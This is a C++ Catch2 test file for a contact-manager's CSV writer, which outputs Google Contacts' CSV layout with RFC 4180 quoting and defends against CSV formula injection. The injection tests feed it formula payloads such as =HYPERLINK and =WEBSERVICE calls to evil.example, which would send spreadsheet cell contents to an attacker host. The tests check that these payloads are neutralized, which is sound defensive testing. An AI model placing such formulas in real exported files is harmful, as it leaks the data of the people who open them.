// CSV writer: contacts to Google Contacts' CSV layout, quoted per RFC 4180 and safe to open in a
// spreadsheet (OWASP "CSV Injection"). Checked by parsing the output back with a strict RFC 4180 parser.
#include "crm/csv_writer.hpp"
#include "crm/csv.hpp"

#include "test_support.hpp"

#include <catch2/catch.hpp>

#include <algorithm>
#include <cstddef>
#include <sstream>
#include <string>
#include <vector>

using namespace date::literals;
using crm::contact;
using crm::labeled_value;
using crm::note;
using crm::partial_date;
using crm::postal_address;
using crm::csv::writer;

namespace {

using record = std::vector<std::string>;

constexpr std::string_view bom = "\xEF\xBB\xBF";

// RFC 4180: records end with CRLF; a quoted field may hold anything, "" being one quote. Fails the test
// on anything else (a bare LF outside quotes, a quote inside an unquoted field, junk after a quote).
std::vector<record> parse(std::string_view text) {
    std::vector<record> out;
    record current;
    std::string field;
    std::size_t i = 0;
    bool at_field_start = true;
    auto fail = [&](const char* why) { FAIL(why << " at offset " << i); };
    while (i < text.size()) {
        const char c = text[i];
        if (at_field_start && c == '"') {
            ++i;
            for (;;) {
                if (i >= text.size()) fail("unclosed quote");
                if (text[i] == '"') {
                    if (i + 1 < text.size() && text[i + 1] == '"') {
                        field += '"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                field += text[i++];
            }
            if (i < text.size() && text[i] != ',' && text[i] != '\r') fail("text after a closing quote");
            at_field_start = false;
            continue;
        }
        if (c == ',') {
            current.push_back(std::move(field));
            field.clear();
            at_field_start = true;
            ++i;
            continue;
        }
        if (c == '\r') {
            if (i + 1 >= text.size() || text[i + 1] != '\n') fail("CR without LF outside quotes");
            current.push_back(std::move(field));
            field.clear();
            out.push_back(std::move(current));
            current.clear();
            at_field_start = true;
            i += 2;
            continue;
        }
        if (c == '\n') fail("bare LF outside quotes");
        if (c == '"') fail("quote inside an unquoted field");
        field += c;
        at_field_start = false;
        ++i;
    }
    if (!current.empty() || !field.empty()) fail("the last record does not end with CRLF");
    return out;
}

std::string write_all(const std::vector<contact>& contacts, crm::csv::writer_options options = {}) {
    std::ostringstream out;
    writer w(out, options);
    w.header();
    for (const auto& c : contacts) w.row(c);
    return out.str();
}

// Header and rows, the BOM checked and removed.
std::vector<record> table(const std::vector<contact>& contacts) {
    std::string text = write_all(contacts);
    REQUIRE(text.starts_with(bom));
    text.erase(0, bom.size());
    auto records = parse(text);
    REQUIRE(records.size() == contacts.size() + 1);
    return records;
}

// The value of `column` for the first contact.
std::string cell(const std::vector<record>& t, const std::string& column) {
    const auto& header = t.front();
    const auto it = std::find(header.begin(), header.end(), column);
    INFO(column);
    REQUIRE(it != header.end());
    return t.at(1).at(static_cast<std::size_t>(it - header.begin()));
}

std::string cell(const contact& c, const std::string& column) {
    return cell(table({c}), column);
}

contact named(std::string given, std::string family) {
    contact c;
    c.name.given = std::move(given);
    c.name.family = std::move(family);
    c.display_name = c.name.formatted();
    return c;
}

}  // namespace

// ------------------------------------------------------------------------------------ layout

TEST_CASE("the header is Google's column names in Google's export order", "[csv_writer]") {
    const auto t = table({});
    const record& h = t.front();
    REQUIRE(h.size() == 10 + 2 * writer::email_slots + 2 * writer::phone_slots + 9 * writer::address_slots +
                            2 * writer::url_slots + 2);
    const record start = {"First Name",        "Middle Name",        "Last Name", "Name Prefix", "Name Suffix",
                          "Organization Name", "Organization Title", "Birthday",  "Notes",       "Labels",
                          "E-mail 1 - Label",  "E-mail 1 - Value"};
    CHECK(record(h.begin(), h.begin() + static_cast<long>(start.size())) == start);
    const record address = {"Address 1 - Label",       "Address 1 - Formatted", "Address 1 - Street",
                            "Address 1 - City",        "Address 1 - PO Box",    "Address 1 - Region",
                            "Address 1 - Postal Code", "Address 1 - Country",   "Address 1 - Extended Address"};
    const auto at = std::find(h.begin(), h.end(), "Address 1 - Label");
    REQUIRE(h.end() - at >= static_cast<long>(address.size()));
    CHECK(record(at, at + static_cast<long>(address.size())) == address);
    CHECK(std::find(h.begin(), h.end(), "E-mail 4 - Value") != h.end());
    CHECK(std::find(h.begin(), h.end(), "Phone 4 - Label") != h.end());
    CHECK(std::find(h.begin(), h.end(), "Address 2 - Extended Address") != h.end());
    CHECK(std::find(h.begin(), h.end(), "Website 3 - Value") != h.end());
    CHECK(h.back() == "Custom Field 1 - Value");
}

TEST_CASE("the output starts with one UTF-8 BOM, and none when the option is off", "[csv_writer]") {
    const std::string with = write_all({named("Ada", "Lovelace"), named("Grace", "Hopper")});
    CHECK(with.starts_with(bom));
    CHECK(with.find(bom, 1) == std::string::npos);
    const std::string without = write_all({named("Ada", "Lovelace")}, crm::csv::writer_options{false});
    CHECK(without.starts_with("First Name,"));
}

TEST_CASE("a row written without a header still starts with the BOM", "[csv_writer]") {
    std::ostringstream out;
    writer w(out);
    w.row(named("Ada", "Lovelace"));
    CHECK(out.str().starts_with(std::string(bom) + "Ada,"));
}

TEST_CASE("every record ends with CRLF and has as many fields as the header", "[csv_writer]") {
    contact full = named("Ada", "Lovelace");
    full.emails = {{"a@x.example", "work"}, {"b@x.example", "home"}};
    full.addresses = {postal_address{"home", "", "", "12 St James's Square", "London", "", "SW1Y 4JH", "UK"}};
    full.notes = {note{note::unstamped, "line one\nline two"}};
    const auto t = table({named("Grace", "Hopper"), full, contact{}});
    for (const auto& r : t) CHECK(r.size() == t.front().size());
}

// ------------------------------------------------------------------------------------ quoting

TEST_CASE("a field holding a comma, a quote, CR or LF is quoted with its quotes doubled", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.organization = "Acme, Inc.";
    c.title = "the \"boss\"";
    c.notes = {note{note::unstamped, "one\ntwo\r\nthree"}};
    const std::string text = write_all({c});
    CHECK(text.find(",\"Acme, Inc.\",") != std::string::npos);
    CHECK(text.find(",\"the \"\"boss\"\"\",") != std::string::npos);
    CHECK(text.find(",\"one\ntwo\r\nthree\",") != std::string::npos);
    const auto t = table({c});
    CHECK(cell(t, "Organization Name") == "Acme, Inc.");
    CHECK(cell(t, "Organization Title") == "the \"boss\"");
    CHECK(cell(t, "Notes") == "one\ntwo\r\nthree");
}

TEST_CASE("a field without comma, quote or line break is not quoted", "[csv_writer]") {
    contact c = named("Hélène", "Lefèvre");
    c.title = "CTO; founder";
    const std::string text = write_all({c});
    CHECK(text.find("\r\nHélène,,Lefèvre,,,,CTO; founder,") != std::string::npos);
}

// ------------------------------------------------------------------------------------ injection

TEST_CASE("a cell starting with = + - @ tab or CR gets a leading single quote", "[csv_writer]") {
    const std::string payload = GENERATE(as<std::string>{}, "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
                                         "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1+1");
    INFO(payload);
    contact c = named("Ada", "Lovelace");
    c.organization = payload;
    c.title = payload;
    c.emails = {{payload, "work"}};
    c.tags = {payload};
    const auto t = table({c});
    CHECK(cell(t, "Organization Name") == "'" + payload);
    CHECK(cell(t, "Organization Title") == "'" + payload);
    CHECK(cell(t, "E-mail 1 - Value") == "'" + payload);
    CHECK(cell(t, "Labels") == "'" + payload);
}

TEST_CASE("labels, notes and names are neutralized like every other cell", "[csv_writer]") {
    contact c = named("=given", "@family");
    c.phones = {{"1", "=WEBSERVICE(\"http://evil.example\")"}};
    c.notes = {note{note::unstamped, "-- call back"}};
    const auto t = table({c});
    CHECK(cell(t, "First Name") == "'=given");
    CHECK(cell(t, "Last Name") == "'@family");
    CHECK(cell(t, "Phone 1 - Label") == "'=WEBSERVICE(\"http://evil.example\")");
    CHECK(cell(t, "Notes") == "'-- call back");
}

TEST_CASE("trigger characters after the first one are left alone", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.organization = "R&D = fun";
    c.title = "a+b-c@d";
    const auto t = table({c});
    CHECK(cell(t, "Organization Name") == "R&D = fun");
    CHECK(cell(t, "Organization Title") == "a+b-c@d");
}

TEST_CASE("phone numbers stay as written: digits, blanks and + ( ) - . can call no function", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.phones = {{"+33 6 12 34 56 78", "mobile"}, {"06 12 34 56 78", "home"}, {"+1 (555) 010-0000", "work"},
                {"+44.20.7946.0000", "other"}};
    const auto t = table({c});
    CHECK(cell(t, "Phone 1 - Value") == "+33 6 12 34 56 78");
    CHECK(cell(t, "Phone 2 - Value") == "06 12 34 56 78");
    CHECK(cell(t, "Phone 3 - Value") == "+1 (555) 010-0000");
    CHECK(cell(t, "Phone 4 - Value") == "+44.20.7946.0000");
}

TEST_CASE("a + value with anything but digits, blanks and ( ) - . is neutralized", "[csv_writer]") {
    const std::string payload = GENERATE(as<std::string>{}, "+1+SUM(A1)", "+33 6 12 x", "+", "+ ()");
    INFO(payload);
    contact c = named("Ada", "Lovelace");
    c.phones = {{payload, "mobile"}};
    CHECK(cell(c, "Phone 1 - Value") == "'" + payload);
}

TEST_CASE("= + - @ after leading blanks are neutralized too", "[csv_writer]") {
    const std::string payload = GENERATE(as<std::string>{}, " =1+1", "   @SUM(A1)", "  -2+3", " +SUM(1)", " \t=1");
    INFO(payload);
    contact c = named("Ada", "Lovelace");
    c.title = payload;
    CHECK(cell(c, "Organization Title") == "'" + payload);
}

TEST_CASE("the birthday cell of an unknown year (Google's --04-15) is neutralized: spreadsheets compute it",
          "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.birthday = partial_date(date::April, 15_d);
    CHECK(cell(c, "Birthday") == "'--04-15");
    c.birthday = partial_date(1815_y, date::December, 10_d);
    CHECK(cell(c, "Birthday") == "1815-12-10");
    c.birthday.reset();
    CHECK(cell(c, "Birthday").empty());
}

// ------------------------------------------------------------------------------------ slots

TEST_CASE("values past the last slot are joined into it with \" ::: \"", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    for (int i = 1; i <= 6; ++i) c.emails.push_back({"e" + std::to_string(i) + "@x.example", "work"});
    const auto t = table({c});
    CHECK(cell(t, "E-mail 1 - Value") == "e1@x.example");
    CHECK(cell(t, "E-mail 3 - Value") == "e3@x.example");
    CHECK(cell(t, "E-mail 4 - Value") == "e4@x.example ::: e5@x.example ::: e6@x.example");
    CHECK(cell(t, "E-mail 4 - Label") == "Work");  // one label when they all share it
}

TEST_CASE("different labels of a joined slot are joined in the same order", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.urls = {{"https://a.example", "work"},
              {"https://b.example", "blog"},
              {"https://c.example", "linkedin"},
              {"https://d.example", "home"}};
    const auto t = table({c});
    CHECK(cell(t, "Website 3 - Value") == "https://c.example ::: https://d.example");
    CHECK(cell(t, "Website 3 - Label") == "linkedin ::: Home");
}

TEST_CASE("addresses past the last slot are joined component by component", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.addresses = {postal_address{"home", "", "", "1 A St", "London", "", "N1", "UK"},
                   postal_address{"work", "", "", "2 B St", "Paris", "", "75002", "France"},
                   postal_address{"work", "BP 7", "", "3 C St", "Lyon", "", "69001", "France"}};
    const auto t = table({c});
    CHECK(cell(t, "Address 1 - Street") == "1 A St");
    CHECK(cell(t, "Address 2 - Label") == "Work");
    CHECK(cell(t, "Address 2 - Street") == "2 B St ::: 3 C St");
    CHECK(cell(t, "Address 2 - City") == "Paris ::: Lyon");
    CHECK(cell(t, "Address 2 - PO Box") == " ::: BP 7");
    CHECK(cell(t, "Address 2 - Region").empty());  // empty in both: no lone " ::: "
    CHECK(cell(t, "Address 2 - Formatted") == "2 B St\n75002 Paris\nFrance ::: 3 C St\nBP 7\n69001 Lyon\nFrance");
}

TEST_CASE("an address fills Google's component columns", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.addresses = {
        postal_address{"home", "PO 9", "Flat 2", "12 St James's Square", "London", "Greater London", "SW1Y 4JH", "UK"}};
    const auto t = table({c});
    CHECK(cell(t, "Address 1 - Label") == "Home");
    CHECK(cell(t, "Address 1 - Street") == "12 St James's Square");
    CHECK(cell(t, "Address 1 - City") == "London");
    CHECK(cell(t, "Address 1 - PO Box") == "PO 9");
    CHECK(cell(t, "Address 1 - Region") == "Greater London");
    CHECK(cell(t, "Address 1 - Postal Code") == "SW1Y 4JH");
    CHECK(cell(t, "Address 1 - Country") == "UK");
    CHECK(cell(t, "Address 1 - Extended Address") == "Flat 2");
}

// ------------------------------------------------------------------------------------ fields

TEST_CASE("kinds become Google's labels, custom kinds stay as written, pref is the \"* \" mark", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.phones = {{"1", "mobile"}, {"2", "work,fax"}, {"3", "Assistant"}, {"4", "home,pref"}};
    c.emails = {{"a@x.example", "work"}, {"b@x.example", ""}};
    const auto t = table({c});
    CHECK(cell(t, "Phone 1 - Label") == "Mobile");
    CHECK(cell(t, "Phone 2 - Label") == "Work Fax");
    CHECK(cell(t, "Phone 3 - Label") == "Assistant");
    CHECK(cell(t, "Phone 4 - Label") == "* Home");
    CHECK(cell(t, "E-mail 1 - Label") == "Work");
    CHECK(cell(t, "E-mail 2 - Label").empty());
}

TEST_CASE("name parts, organization, title and UTF-8 text land in their columns unchanged", "[csv_writer]") {
    contact c;
    c.name = {"Dr.", "Hélène", "Marie", "Lefèvre", "PhD"};
    c.display_name = "Hélène";
    c.organization = "Société Générale";
    c.title = "日本 lead 😀";
    const auto t = table({c});
    CHECK(cell(t, "First Name") == "Hélène");
    CHECK(cell(t, "Middle Name") == "Marie");
    CHECK(cell(t, "Last Name") == "Lefèvre");
    CHECK(cell(t, "Name Prefix") == "Dr.");
    CHECK(cell(t, "Name Suffix") == "PhD");
    CHECK(cell(t, "Organization Name") == "Société Générale");
    CHECK(cell(t, "Organization Title") == "日本 lead 😀");
}

TEST_CASE("a contact without a structured name gets its display name as First Name", "[csv_writer]") {
    contact c;
    c.display_name = "Prince";
    CHECK(cell(c, "First Name") == "Prince");
    contact org;
    org.display_name = "Acme";
    org.organization = "Acme";
    CHECK(cell(org, "First Name").empty());  // Google shows the organization for such a contact
}

TEST_CASE("notes are joined by a blank line and tags by \" ::: \"", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.notes = {note{crm::test::at(2026_y / date::October / 8), "first"}, note{note::unstamped, "  "},
               note{note::unstamped, "second"}};
    c.tags = {"VIP", "investors", "paris"};
    const auto t = table({c});
    CHECK(cell(t, "Notes") == "first\n\nsecond");
    CHECK(cell(t, "Labels") == "VIP ::: investors ::: paris");
}

TEST_CASE("how_met goes to Custom Field 1, labelled", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.how_met = "Web Summit, Lisbon";
    auto t = table({c});
    CHECK(cell(t, "Custom Field 1 - Label") == "How we met");
    CHECK(cell(t, "Custom Field 1 - Value") == "Web Summit, Lisbon");
    t = table({named("Grace", "Hopper")});
    CHECK(cell(t, "Custom Field 1 - Label").empty());
}

// ------------------------------------------------------------------------------------ round trips

namespace {

std::vector<crm::card> read_csv(const std::string& text) {
    std::vector<crm::card> cards;
    const auto summary = crm::csv::read(text, "written.csv", [&](crm::card&& c) { cards.push_back(std::move(c)); });
    INFO((summary.problems.empty() ? std::string() : summary.problems.front().reason));
    CHECK(summary.problems.empty());
    return cards;
}

}  // namespace

TEST_CASE("a written row reads back through netcrm's CSV reader as a Google export", "[csv_writer]") {
    contact c;
    c.name = {"Dr.", "Hélène", "Marie", "Lefèvre", "PhD"};
    c.display_name = c.name.formatted();
    c.organization = "Acme, Inc.";
    c.title = "CTO; co-founder";
    c.emails = {{"helene@acme.example", "work"}, {"h@home.example", "home"}, {"hl@list.example", "newsletter"}};
    c.phones = {{"06 12 34 56 78", "mobile"}, {"01 23 45 67 89", "work,fax"}};
    c.urls = {{"https://www.linkedin.com/in/helene", "linkedin"}};
    c.addresses = {
        postal_address{"work", "BP 12", "Bât. B", "1 rue de la Paix", "Paris", "Île-de-France", "75002", "France"}};
    c.tags = {"VIP", "investors seed"};
    c.birthday = partial_date(date::February, 29_d);
    c.notes = {note{note::unstamped, "Wants intros to VCs.\nSend the deck \"v2\""}};
    const auto cards = read_csv(write_all({c, named("Grace", "Hopper")}));
    REQUIRE(cards.size() == 2);
    const crm::card& k = cards.front();
    const contact& r = k.person;
    CHECK(k.format == "csv-google");
    CHECK(r.name == c.name);
    CHECK(r.organization == c.organization);
    CHECK(r.title == c.title);
    CHECK(r.emails == c.emails);
    CHECK(r.phones == c.phones);
    CHECK(r.urls == c.urls);
    CHECK(r.addresses == c.addresses);
    CHECK(r.tags == c.tags);
    REQUIRE(r.birthday);
    CHECK(*r.birthday == *c.birthday);
    REQUIRE(r.notes.size() == 1);
    CHECK(r.notes[0].text == c.notes[0].text);
    CHECK(cards[1].person.name.given == "Grace");
}

// The writer marks a neutralized cell with a leading "'" (OWASP); netcrm's CSV reader strips one "'"
// before = + - @ tab or CR, undoing exactly what the writer did.
TEST_CASE("a neutralized cell reads back without its leading quote", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.title = "=cto";
    c.phones = {{"+33 6 12 34 56 78", "mobile"}};
    const auto cards = read_csv(write_all({c}));
    REQUIRE(cards.size() == 1);
    CHECK(cards[0].person.title == "=cto");
    REQUIRE(cards[0].person.phones.size() == 1);
    CHECK(cards[0].person.phones[0].value == "+33 6 12 34 56 78");
}

// Google's Labels cell separates labels with " ::: " only, so a label may hold a comma; the reader
// splits Google's Labels at " ::: " alone.
TEST_CASE("every cell the writer marks or leaves alone reads back as it was written", "[csv_writer]") {
    // The writer's rule and the reader's are one (detail/csv_formula.hpp): text that starts with
    // quotes, blanks, tab or CR, phone numbers with and without quotes, formulas.
    const std::string text = GENERATE(as<std::string>{}, "=x", "'=x", "''=x", "'plain", "+33 6 12 34 56 78",
                                      "'+33 6 12 34 56 78", "''+33 6", "\tindented", "\rcr first", "\nlf first", " =x", "' =x",
                                      "--04-15", "'", "''", "-", "@", "+", "'+", "+1+1", "a'b");
    INFO(text);
    contact c = named("Ada", "Lovelace");
    c.title = text;
    c.organization = "Org";
    const auto cards = read_csv(write_all({c}));
    REQUIRE(cards.size() == 1);
    std::string want = text;
    std::replace(want.begin(), want.end(), '\r', '\n');  // the reader takes a CR in a cell for LF
    CHECK(cards[0].person.title == want);
}

TEST_CASE("a yearless birthday reads back from the neutralized cell", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.birthday = partial_date(date::April, 15_d);
    const auto cards = read_csv(write_all({c}));
    REQUIRE(cards.size() == 1);
    CHECK(cards[0].person.birthday == c.birthday);
}

TEST_CASE("a tag holding a comma reads back as one tag", "[csv_writer]") {
    contact c = named("Ada", "Lovelace");
    c.tags = {"investors, seed", "VIP"};
    const auto cards = read_csv(write_all({c}));
    REQUIRE(cards.size() == 1);
    CHECK(cards[0].person.tags == c.tags);
}
